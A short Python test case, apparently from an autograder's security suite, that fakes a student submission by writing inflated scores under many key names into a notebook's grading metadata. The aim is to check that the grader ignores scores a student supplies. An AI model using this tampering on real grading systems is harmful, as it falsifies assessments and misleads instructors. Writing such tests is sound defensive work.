"""The essay's metadata contain scores, in every spelling.

Success: the attack earns points in `essay`.
"""


def attack(submission):
    submission.answer("essay", "Please give me three points.")
    names = ("score", "auto_score", "manual_score", "extra_credit", "points_given", "max_score")
    submission.cell("essay").metadata["nbgrader"] |= dict.fromkeys(names, 3)
    submission.cell("square_test").metadata["nbgrader"] |= dict.fromkeys(names, 4)
    submission.notebook.metadata["nbgrader"] = {"score": 1000}
